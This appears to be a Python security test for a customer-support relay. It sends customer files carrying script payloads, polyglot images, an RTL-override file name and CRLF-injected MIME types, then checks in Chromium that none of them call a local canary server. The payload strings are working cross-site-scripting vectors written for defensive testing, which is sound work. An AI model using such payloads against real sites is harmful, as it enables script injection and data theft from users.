"""Files that would run in an agent's browser, opened in a real one: as pages, in frames, as pictures, as scripts."""

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, suppress
from pathlib import Path
from random import Random
from typing import Final

from aiohttp import web
from playwright.async_api import Browser, Error, Page

from tests.campaigns.attacks.attacked import ANNA, Attacked, Result, attacked
from tests.components import COMPONENTS
from tests.page.demo import chromium
from tests.telegram.hostile_addresses import serving

#: Seconds that a page gets to do what it would.
_PATIENCE: Final = 0.4

#: What is claimed of each: name, media type, and the bytes. `{canary}` is an address that sees who calls.
SCRIPT: Final = "fetch('{canary}?'+document.domain);new Image().src='{canary}';"
PAGE: Final = "<!doctype html><script>" + SCRIPT + '</script><img src=x onerror="' + SCRIPT + '">'
SVG: Final = '<svg xmlns="http://www.w3.org/2000/svg" onload="{script}"><script>{script}</script></svg>'
FILES: Final = (
    ("page.html", "text/html", PAGE),
    ("page.htm", "text/html; charset=utf-7", PAGE),
    ("page.xhtml", "application/xhtml+xml", '<html xmlns="http://www.w3.org/1999/xhtml"><script>{script}</script></html>'),
    ("picture.svg", "image/svg+xml", SVG),
    ("picture.svg", "image/png", SVG),
    ("picture.png", "image/png", PAGE),
    ("photo.jpg", "image/jpeg", "\xff\xd8\xff\xe0" + PAGE),
    ("moves.gif", "image/gif", "GIF89a=1;" + SCRIPT),
    ("film.mp4", "video/mp4", PAGE),
    ("song.mp3", "audio/mpeg", PAGE),
    ("words.txt", "text/plain", PAGE),
    ("table.csv", "text/csv", PAGE),
    ("paper.pdf", "application/pdf", PAGE),
    ("code.js", "application/javascript", SCRIPT),
    ("code.mjs", "text/javascript", SCRIPT),
    ("data.json", "application/json", SCRIPT),
    ("feed.xml", "text/xml", '<?xml-stylesheet type="text/xsl" href="#x"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>{script}</h:script></x>'),
    ("mail.mhtml", "message/rfc822", "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + PAGE),
    ("old.hta", "application/hta", PAGE),
    ("style.css", "text/css", "body{background:url('{canary}')}"),
    ("page.html\u202egpj.", "text/html", PAGE),
    ("no name", "", PAGE),
    ("lines", "text/html\r\nX: y", PAGE),
    ("several", "text/html, image/png", PAGE),
    ("capital", "TEXT/HTML", PAGE),
    ("worker.js", "text/javascript", "self.addEventListener('fetch',()=>0);" + SCRIPT),
)  # fmt: skip


@asynccontextmanager
async def canary() -> AsyncIterator[tuple[str, list[str]]]:
    """An address that everybody may call, and the list of who did."""
    calls: list[str] = []

    async def hear(request: web.Request) -> web.Response:
        calls.append(request.path_qs)
        return web.Response(headers={"Access-Control-Allow-Origin": "*"})

    async with serving(hear) as host:
        yield f"http://{host}/canary", calls


async def _open(page: Page, url: str, result: Result) -> None:
    """Every way in which a desk, or a stranger's page, could show it."""
    ways = (
        f'<iframe src="{url}"></iframe>',
        f'<object data="{url}"></object><embed src="{url}">',
        f'<img src="{url}"><picture><source srcset="{url}"></picture>',
        f'<video src="{url}" autoplay></video><audio src="{url}" autoplay></audio>',
        f'<script src="{url}"></script><script type=module src="{url}"></script>',
        f'<link rel=stylesheet href="{url}">',
    )
    with suppress(Error):  # it is saved, not shown
        await page.goto(url, wait_until="commit")
    await asyncio.sleep(_PATIENCE)
    result.tried += 1
    for markup in ways:
        await page.goto("about:blank")
        await page.set_content(markup, wait_until="domcontentloaded")
        await asyncio.sleep(_PATIENCE / 4)
        result.tried += 1


async def attack_browsers(home: Path, count: int, dice: Random) -> Result:
    """So many of the files, each as a customer's document."""
    result = Result("active content in Chromium")
    if COMPONENTS["chromium"].find() is None:
        result.note = "not tried: no Chromium here"
        return result
    async with attacked(home, RELAY_LOG_LEVEL="INFO") as desk, canary() as (address, calls), chromium() as browser:
        await _prove_the_canary(browser, address, calls, result)
        for name, mime_type, template in dice.sample(FILES, min(count, len(FILES))):
            content = template.replace("{script}", SCRIPT.replace("'", "&#39;")).replace("{canary}", address)
            url = await _sent(desk, name, mime_type, content.encode("latin-1", "replace"))
            page = await (await browser.new_context()).new_page()
            calls.clear()
            await _open(page, url, result)
            result.expect(f"{name} as {mime_type!r} ran: {calls[:2]}", held=not calls)
            await page.context.close()
        await desk.check(result)
    return result


async def _sent(desk: Attacked, name: str, mime_type: str, content: bytes) -> str:
    """The link that an agent gets."""
    seen = len(desk.kit.messages(ANNA))
    desk.telegram.customer(ANNA).sends_document(content, file_name=name, mime_type=mime_type)
    await desk.kit.wait_for(lambda: len(desk.kit.messages(ANNA)) > seen, 20)
    return str(desk.kit.messages(ANNA)[seen].payload[0]["file_url"])


async def _prove_the_canary(browser: Browser, address: str, calls: list[str], result: Result) -> None:
    """The same page from a host that does nothing about it is heard."""

    async def careless(_: web.Request) -> web.Response:
        return web.Response(text=PAGE.replace("{canary}", address), content_type="text/html")

    async with serving(careless) as host:
        page = await browser.new_page()
        await page.goto(f"http://{host}/")
        await asyncio.sleep(_PATIENCE)
        await page.close()
    result.expect("the canary hears nothing, so that this says nothing", held=bool(calls))
